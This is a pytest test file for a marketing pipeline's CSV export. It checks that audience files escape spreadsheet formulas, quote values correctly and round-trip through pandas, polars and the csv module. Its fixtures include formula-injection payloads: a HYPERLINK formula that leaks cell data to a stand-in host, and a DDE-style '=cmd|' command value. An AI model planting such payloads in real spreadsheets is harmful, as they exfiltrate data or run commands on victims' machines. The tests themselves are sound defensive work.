"""audience.csv is safe to open in a spreadsheet and reads back, with Python's csv module, pandas and polars,
as the values of audience.parquet: RFC 4180 quoting, whitespace kept, null apart from empty text, formulas
neutralised by one leading ' (dropped again on reading), numbers untouched, lists as JSON text."""

from __future__ import annotations

import csv
import datetime as dt
import json
import os
from types import SimpleNamespace

import pandas as pd
import polars as pl
import pyarrow.parquet as pq
import pytest
import yaml
from chispa import assert_df_equality
from polars.testing import assert_frame_equal as assert_polars_equal
from pyspark.sql import functions as F

from marketlake.activate import as_csv_cells, neutralise_formulas
from marketlake.config import CampaignConfig
from marketlake.jobs import main
from marketlake.jobs.activate import export_campaign
from marketlake.lake import Lake

RUN_DATE = dt.date(2024, 6, 30)
TRICKY = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=1+1",
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\tTAB",
    "\rCR",
    'say "hi"',
    'a\\"b',
    "a,b",
    "line1\nline2",
    "crlf\r\nend",
    "ends in CR\r",
    "  padded  ",
    " =1+1",
    "'quoted",
    "''",
    "",
    None,
    "plain",
    "x=1",
    "ünï©ødé",
]
# What OWASP lists as the start of a formula: no text cell of the CSV may start with one of these.
FORMULA_CHARACTERS = ("=", "+", "-", "@", "\t", "\r")
TEXT = ["campaign_id", "user_id", "segment_name", "rfm_label", "offer", "channel", "item_1", "email"]
NUMBERS = ["audience_rank", "balance", "score"]
LISTS = ["items"]
SCHEMA = (
    "campaign_id string, user_id string, segment_name string, rfm_label string, offer string, channel string, "
    "audience_rank int, item_1 string, email string, balance long, score double, items array<string>"
)


def tricky(i: int) -> str | None:
    return TRICKY[i % len(TRICKY)]


def export_rows(spark):
    """Every tricky value in every text column and in the lists; negative numbers; ranks in reverse order."""
    n = len(TRICKY)
    rows = [
        (
            "safe",
            tricky(i),
            tricky(i + 1),
            "Champions",
            tricky(i + 2),
            "email",
            n - i,
            tricky(i + 3),
            tricky(i + 4),
            -7 * i,
            -i - 0.25,
            None if i == 5 else [tricky(i + 5), tricky(i + 6)][: i % 3],
        )
        for i in range(n)
    ]
    return spark.createDataFrame(rows, SCHEMA)


def value(cell: str) -> str:
    """The documented decoding of a text cell: drop one leading '."""
    return cell[1:] if cell.startswith("'") else cell


@pytest.fixture(scope="module")
def exported(spark, config, tmp_path_factory):
    """(audience.csv, audience.parquet) of export_campaign on hand-built rows, over a folder with a stale file."""
    root = str(tmp_path_factory.mktemp("export-safety") / "lake")
    ctx = SimpleNamespace(lake=Lake(spark, config.lake, root), run_date=RUN_DATE)
    stale = os.path.join(root, "exports", "safe", RUN_DATE.isoformat())
    os.makedirs(stale)
    open(os.path.join(stale, "old.csv"), "w").close()
    campaign = CampaignConfig(id="safe", segments=["loyal"], default_offer="o")
    folder = export_campaign(ctx, export_rows(spark), campaign)
    assert sorted(os.listdir(folder)) == ["audience.csv", "audience.parquet"]
    return os.path.join(folder, "audience.csv"), os.path.join(folder, "audience.parquet")


def test_the_csv_module_reads_the_parquet_values(exported):
    csv_path, parquet_path = exported
    with open(csv_path, newline="", encoding="utf-8") as f:
        reader = csv.DictReader(f)
        header, rows = reader.fieldnames, list(reader)
    expected = pq.read_table(parquet_path).to_pylist()
    assert header == [*TEXT[:6], "audience_rank", "item_1", "email", "balance", "score", "items"]
    decoded = [
        {
            **{c: value(row[c]) for c in TEXT},
            "audience_rank": int(row["audience_rank"]),
            "balance": int(row["balance"]),
            "score": float(row["score"]),
            "items": json.loads(row["items"]) if row["items"] else None,
        }
        for row in rows
    ]
    # The csv module reads a null and an empty text alike, as "".
    assert decoded == [
        {k: "" if k in TEXT and v is None else v for k, v in record.items()} for record in expected
    ]
    assert [r["user_id"] for r in expected] == [tricky(i) for i in reversed(range(len(TRICKY)))]  # by rank


def test_pandas_reads_the_parquet_values(exported):
    csv_path, parquet_path = exported
    read = pd.read_csv(csv_path, dtype={c: str for c in TEXT + LISTS}, keep_default_na=False)
    read[TEXT] = read[TEXT].map(value)
    read["items"] = read["items"].map(lambda cell: json.loads(cell) if cell else None)
    expected = pd.read_parquet(parquet_path)
    expected[TEXT] = expected[TEXT].fillna(
        ""
    )  # keep_default_na=False: a null reads as "", like an empty text
    expected["items"] = expected["items"].map(lambda items: None if items is None else list(items))
    pd.testing.assert_frame_equal(read, expected, check_dtype=False)


def test_polars_reads_the_parquet_values_with_nulls_apart_from_empty_text(exported):
    csv_path, parquet_path = exported
    read = pl.read_csv(csv_path, schema_overrides={c: pl.String for c in TEXT + LISTS}).with_columns(
        *[
            pl.when(pl.col(c).str.starts_with("'")).then(pl.col(c).str.slice(1)).otherwise(pl.col(c)).alias(c)
            for c in TEXT
        ],
        pl.col("items").str.json_decode(pl.List(pl.String)),
    )
    assert_polars_equal(read, pl.read_parquet(parquet_path), check_dtypes=False)


def test_no_text_cell_starts_a_formula_and_numbers_keep_their_sign(exported):
    csv_path, parquet_path = exported
    with open(csv_path, newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    expected = pq.read_table(parquet_path).to_pylist()
    for row, record in zip(rows, expected, strict=True):
        for c in TEXT + LISTS:
            assert not row[c].startswith(FORMULA_CHARACTERS), (c, row[c])
        for c in TEXT:
            prefixed = record[c] is not None and record[c].startswith((*FORMULA_CHARACTERS, "'"))
            assert row[c] == ("'" if prefixed else "") + (record[c] or ""), (c, row[c], record[c])
        assert row["balance"] == str(record["balance"])  # -7, -14 ... as numbers, not '-7
    assert any(row["balance"].startswith("-") for row in rows)


def test_quotes_are_doubled_and_whitespace_kept_in_the_file_itself(exported):
    csv_path, _ = exported
    with open(csv_path, "rb") as f:
        text = f.read().decode("utf-8")
    assert '"say ""hi"""' in text and '"a\\""b"' in text  # a quote doubled, a backslash as it is
    assert ",  padded  ," in text and ',"",' in text  # an empty text is "", a null an empty cell
    assert ',"\'\rCR",' in text and ",'\tTAB," in text


def test_neutralise_formulas_prefixes_text_cells_only(spark):
    cells = ["=1", "+1", "-1", "@a", "\tx", "\rx", "'x", "x=", " =1", "", None, "\nx", "a\n=1"]
    prefixed = ["'=1", "'+1", "'-1", "'@a", "'\tx", "'\rx", "''x", "x=", " =1", "", None, "\nx", "a\n=1"]
    schema = "cell string, number long, amount double, items array<string>"
    rows = [(cell, -i, -i - 0.5, [cell]) for i, cell in enumerate(cells)]
    expected = [
        (cell, -i, -i - 0.5, [original])
        for i, (cell, original) in enumerate(zip(prefixed, cells, strict=True))
    ]
    assert_df_equality(
        neutralise_formulas(spark.createDataFrame(rows, schema)), spark.createDataFrame(expected, schema)
    )


def test_csv_cells_write_lists_as_json_text_then_neutralise(spark):
    frame = spark.createDataFrame(
        [(["=a", 'q"x', None], "@b", -1), ([], "ok", 2), (None, None, None)],
        "items array<string>, offer string, audience_rank int",
    )
    expected = spark.createDataFrame(
        [('["=a","q\\"x",null]', "'@b", -1), ("[]", "ok", 2), (None, None, None)],
        "items string, offer string, audience_rank int",
    )
    assert_df_equality(as_csv_cells(frame), expected)


def test_the_activate_job_exports_tricky_ids_offers_and_contacts_safely(spark, config, tmp_path):
    """End to end: tricky user ids from gold, an offer from the config and emails from the contacts file."""
    root = str(tmp_path / "lake")
    lake = Lake(spark, config.lake, root)
    ids = [t for t in TRICKY if t]  # user_id is a key: no null or empty one
    users = spark.createDataFrame(
        [(u, "Champions", float(i), float(i), 100.0, RUN_DATE) for i, u in enumerate(ids)],
        "user_id string, rfm_label string, recency_days double, days_since_purchase double, monetary double, "
        "as_of_date date",
    )
    lake.write("gold.user_features", users, "append", partition_by=["as_of_date"])
    segments = users.select(
        "user_id",
        F.lit(0).alias("segment_id"),
        F.lit("loyal").alias("segment_name"),
        F.lit("v1").alias("model_version"),
        "as_of_date",
    )
    lake.write("gold.user_segments", segments, "append", partition_by=["as_of_date"])
    contacts = str(tmp_path / "contacts.parquet")
    pd.DataFrame({"user_id": ids, "email": [f"=cmd|'/C calc'!A0 {i}@x" for i in range(len(ids))]}).to_parquet(
        contacts
    )
    campaign = {
        "id": "tricky",
        "segments": ["loyal"],
        "offers": {"loyal": '-10% "today", only'},
        "control_share": 0.0,
        "items": 0,
        "cross_sell": 0,
        "export_columns": {"email": "email"},
    }
    conf = tmp_path / "activate.yaml"
    conf.write_text(yaml.safe_dump({"activate": {"contacts": contacts, "campaigns": [campaign]}}))
    args = ["--lake", root, "--config", str(conf), "--run-date", RUN_DATE.isoformat()]
    assert main("activate", args) == 0
    folder = os.path.join(root, "exports", "tricky", RUN_DATE.isoformat())
    with open(os.path.join(folder, "audience.csv"), newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    expected = pq.read_table(os.path.join(folder, "audience.parquet")).to_pylist()
    assert [r["user_id"] for r in expected] == ids  # ranked by recency_days
    text = ["campaign_id", "user_id", "segment_name", "rfm_label", "offer", "channel", "email"]
    assert [{c: value(row[c]) for c in text} for row in rows] == [{c: r[c] for c in text} for r in expected]
    assert all(not row[c].startswith(FORMULA_CHARACTERS) for row in rows for c in text)
    assert {row["offer"] for row in rows} == {'\'-10% "today", only'}
